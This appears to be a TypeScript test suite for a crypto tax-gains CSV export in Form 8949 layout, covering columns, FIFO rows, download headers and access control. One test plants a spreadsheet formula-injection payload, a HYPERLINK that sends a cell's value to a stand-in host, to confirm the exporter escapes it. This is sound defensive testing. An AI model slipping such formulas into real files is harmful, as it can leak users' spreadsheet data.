import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { request } from '../../support/api.ts';
import { thePlatform } from '../../support/the-platform.ts';
import { expectError } from '../answers.ts';
import { sql } from '../database.ts';
import { type Account, enter, forget, getGains, newAccount } from './ledger.ts';

const records = async ({ user }: Account, query: string): Promise<Record<string, string>[]> => {
  const { status, body } = await request('GET', `/gains?format=csv&${query}`, { token: user.token });
  expect(status).toBe(200);
  return parse(body, { columns: true, record_delimiter: '\r\n' });
};

it("has Form 8949's columns, Part I before Part II, then what has no term", async () => {
  const account = await newAccount();
  await enter(account, 'BUY 4 100 2021-01-01');
  await enter(account, 'BUY 5 111 2021-06-01');
  await enter(account, 'SELL 6 120 2022-01-02');
  const gone = await enter(account, 'BUY 1 1 2022-02-01');
  await enter(account, 'SELL 4 50.25 2022-03-01', { fee_usd: '1' });
  await forget(account, gone);
  const rows = await records(account, 'year=2022');
  expect(Object.keys(rows[0] ?? {}).slice(0, 8)).toEqual([
    '(a) Description of property',
    '(b) Date acquired',
    '(c) Date sold or disposed of',
    '(d) Proceeds',
    '(e) Cost or other basis',
    '(f) Code(s)',
    '(g) Amount of adjustment',
    '(h) Gain or (loss)',
  ]);
  const slices = rows.slice(0, -1).map((row) => Object.values(row).slice(0, 14).join('|'));
  expect(slices).toEqual([
    '2 ETH|06/01/2021|01/02/2022|240|222|||18|I|short|SELL|FIFO|18|18',
    '3 ETH|06/01/2021|03/01/2022|150|333|||-183|I|short|SELL|FIFO|-183|-183',
    '4 ETH|01/01/2021|01/02/2022|480|400|||80|II|long|SELL|FIFO|80|80',
    '1 ETH||03/01/2022|50|||||||SELL||0|50',
  ]);
  const { items, ledger_hash } = await getGains(account, 'year=2022');
  const uuids = rows.slice(0, -1).map(({ Match }) => Match);
  expect(uuids.toSorted()).toEqual(items.map(({ uuid }: { uuid: string }) => uuid).toSorted());
  const last = rows.at(-1)?.['(a) Description of property'] ?? '';
  expect(last).toContain('engine replay/2');
  expect(last).toContain(ledger_hash);
  expect(last).toContain(`${account.wallets[0].uuid} FIFO`);
});

it('S20: a formula as a symbol or a name stays a text, and a loss stays a number', async () => {
  const payload = `=HYPERLINK("https://example.org?"&A1,"x")`;
  const account = await newAccount();
  const contract = `0x${'0'.repeat(20)}${Date.now().toString(16).padStart(20, '0')}`;
  const [token] = await sql<{ uuid: string }>(
    `INSERT INTO tokens (chain_id, contract_address, symbol, name, decimals, kind)
     SELECT id, $1, $2, 'Test token', 18, 'other' FROM chains WHERE public_id = '1' RETURNING uuid`,
    [contract, payload],
  );
  await sql('UPDATE wallets SET name = $2 WHERE uuid = $1', [
    account.wallets[0].uuid,
    '＝1+1, "and"\r\nmore',
  ]);
  await enter(account, 'BUY 1 100 2021-01-01', { token_uuid: token?.uuid });
  await enter(account, 'SELL 1 40 2021-02-01', { token_uuid: token?.uuid });
  const [row] = await records(account, 'year=2021');
  expect(row?.Token).toBe(`'${payload}`);
  expect(row?.Wallet).toBe('\'＝1+1, "and"\r\nmore');
  expect(row?.['(a) Description of property']).toBe(`1 ${payload}`);
  expect(row?.['(h) Gain or (loss)']).toBe('-60');
  const { body } = await request('GET', '/gains?year=2021&format=csv', { token: account.user.token });
  // Not one cell of the whole file begins a formula.
  for (const cell of parse(body).flat()) expect(cell).not.toMatch(/^(?!-?\d+(\.\d+)?$)[=+\-@\t\r＝＋－＠]/);
});

it('is a file to be saved, compressed for whoever takes that', async () => {
  const account = await newAccount();
  const { ledger_hash } = await getGains(account, 'year=2021');
  const ask = (encoding: string) =>
    fetch(`${thePlatform().url}/gains?year=2021&format=csv`, {
      headers: { authorization: `Bearer ${account.user.token}`, 'accept-encoding': encoding },
    });
  const [plain, packed] = [await ask('identity'), await ask('gzip')];
  expect(plain.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(plain.headers.get('content-disposition')).toBe(
    `attachment; filename="gains-2021-${ledger_hash.slice(0, 8)}.csv"`,
  );
  expect(plain.headers.get('cache-control')).toBe('no-store');
  expect(plain.headers.get('x-content-type-options')).toBe('nosniff');
  expect([plain.headers.get('content-encoding'), packed.headers.get('content-encoding')]).toEqual([
    null,
    'gzip',
  ]);
  expect(await packed.text()).toBe(await plain.text());
});

it("is as closed to others as JSON is, and has a page's parameters checked", async () => {
  const [account, stranger] = [await newAccount(), await newAccount()];
  const path = `/gains?year=2021&format=csv&wallet=${account.wallets[0].uuid}`;
  expectError(await request('GET', path, { token: stranger.user.token }), 404, 'WalletError');
});
